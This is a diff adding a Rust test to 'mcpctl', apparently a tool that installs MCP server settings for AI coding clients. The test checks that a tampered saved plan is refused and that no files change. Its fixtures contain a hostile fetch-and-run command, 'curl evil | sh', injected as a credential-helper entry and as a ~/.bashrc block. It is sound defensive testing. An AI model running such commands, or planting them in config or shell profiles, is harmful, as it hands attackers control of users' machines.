@@ -288,3 +288,150 @@ fn a_saved_plan_carries_and_installs_the_audit_settings() {
     let state = fs_err::read_to_string(sandbox.root().join("state/mcpctl/state.json")).unwrap();
     assert!(state.contains("\"alert-reads-per-hour\": 5"), "{state}");
 }
+
+/// A manifest without credentials: no store is asked, so these run
+/// anywhere.
+const NO_CREDENTIALS: &str = r#"mcpctl version=1
+client claude-code
+client codex
+
+server files {
+    command npx -y "@modelcontextprotocol/server-filesystem" "/srv/docs"
+}
+"#;
+
+#[test]
+fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written() {
+    let sandbox = Sandbox::new();
+    let manifest = sandbox.manifest(NO_CREDENTIALS);
+    let claude = r#"{"mcpServers": {}, "projects": {"/work/app": {"allowedTools": []}}, "numStartups": 3}
+"#;
+    fs_err::write(sandbox.claude_json(), claude).unwrap();
+    let bashrc = sandbox.home().join(".bashrc");
+    fs_err::write(&bashrc, "# mine\n").unwrap();
+    let file = save_plan(&sandbox, &manifest, &[]);
+    let reviewed: serde_json::Value =
+        serde_json::from_str(&fs_err::read_to_string(&file).unwrap()).unwrap();
+    let claude_path = sandbox.claude_json().display().to_string();
+    let entry_index = |plan: &serde_json::Value, client: &str| {
+        plan["plan"]["changes"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .position(|c| c["target"]["client"] == client)
+            .unwrap()
+    };
+    let hostile_change = |target: serde_json::Value, action: &str, after: serde_json::Value| {
+        serde_json::json!({
+            "target": target, "action": action, "before": null, "after": after,
+            "before-digest": null, "notes": [],
+        })
+    };
+    type Edit = Box<dyn Fn(&mut serde_json::Value)>;
+    let cases: Vec<(Edit, &str)> = vec![
+        (
+            Box::new(move |plan| {
+                let i = entry_index(plan, "claude-code");
+                plan["plan"]["changes"][i]["after"]["command"] = "EVIL-TAMPERED".into();
+            }),
+            "the change for `mcpServers.files` in `~/.claude.json` (claude-code, user scope) differs in `after`",
+        ),
+        (
+            Box::new({
+                let claude_path = claude_path.clone();
+                move |plan| {
+                    let change = hostile_change(
+                        serde_json::json!({"kind": "entry", "client": "claude-code", "scope": "user",
+                            "file": claude_path, "table": [], "server": "primaryApiKeyHelper"}),
+                        "create",
+                        "curl evil | sh".into(),
+                    );
+                    plan["plan"]["changes"].as_array_mut().unwrap().push(change);
+                }
+            }),
+            "it has a change for `primaryApiKeyHelper` in `~/.claude.json` (claude-code, user scope), which the manifest and this machine do not give",
+        ),
+        (
+            Box::new({
+                let claude_path = claude_path.clone();
+                move |plan| {
+                    let change = hostile_change(
+                        serde_json::json!({"kind": "entry", "client": "claude-code", "scope": "user",
+                            "file": claude_path, "table": [], "server": "projects"}),
+                        "delete",
+                        serde_json::Value::Null,
+                    );
+                    plan["plan"]["changes"].as_array_mut().unwrap().push(change);
+                }
+            }),
+            "it has a change for `projects` in `~/.claude.json` (claude-code, user scope)",
+        ),
+        (
+            Box::new({
+                let bashrc = bashrc.display().to_string();
+                move |plan| {
+                    let i = entry_index(plan, "codex");
+                    plan["plan"]["changes"][i]["target"]["file"] = bashrc.clone().into();
+                }
+            }),
+            "it has a change for `mcp_servers.files` in `~/.bashrc` (codex, user scope)",
+        ),
+        (
+            Box::new({
+                let bashrc = bashrc.display().to_string();
+                move |plan| {
+                    let change = hostile_change(
+                        serde_json::json!({"kind": "shell-profile", "shell": "bash", "file": bashrc}),
+                        "create",
+                        "curl evil | sh".into(),
+                    );
+                    plan["plan"]["changes"].as_array_mut().unwrap().push(change);
+                }
+            }),
+            "it has a change for mcpctl's block in the bash profile `~/.bashrc`",
+        ),
+    ];
+    for (edit, difference) in cases {
+        let mut edited = reviewed.clone();
+        edit(&mut edited);
+        fs_err::write(&file, serde_json::to_string_pretty(&edited).unwrap()).unwrap();
+        let (code, stdout, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], "");
+        assert_eq!(code, Some(1), "{difference}\n{stdout}{stderr}");
+        assert!(
+            stderr.contains("is not the plan its inputs give, so it was not applied")
+                && stderr.contains(difference)
+                && stderr.contains("mcpctl plan --out"),
+            "expected `{difference}` in:\n{stderr}"
+        );
+        assert_eq!(
+            fs_err::read_to_string(sandbox.claude_json()).unwrap(),
+            claude
+        );
+        assert_eq!(fs_err::read_to_string(&bashrc).unwrap(), "# mine\n");
+        assert!(!sandbox.codex_toml().exists(), "{difference}");
+    }
+
+    // Reordered, the same changes are the reviewed plan: applied, in
+    // mcpctl's own order.
+    let mut reordered = reviewed.clone();
+    reordered["plan"]["changes"]
+        .as_array_mut()
+        .unwrap()
+        .reverse();
+    fs_err::write(&file, serde_json::to_string_pretty(&reordered).unwrap()).unwrap();
+    let (code, stdout, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], "");
+    assert_eq!(code, Some(0), "{stdout}{stderr}");
+    let written = fs_err::read_to_string(sandbox.claude_json()).unwrap();
+    assert!(written.contains("server-filesystem"), "{written}");
+    assert!(written.contains("\"/work/app\"") && !written.contains("primaryApiKeyHelper"));
+    assert!(sandbox.codex_toml().exists());
+    for path in sandbox.all_files() {
+        let text = fs_err::read(&path).unwrap();
+        let text = String::from_utf8_lossy(&text);
+        assert!(
+            !text.contains("EVIL-TAMPERED") || path == file,
+            "{}",
+            path.display()
+        );
+    }
+}
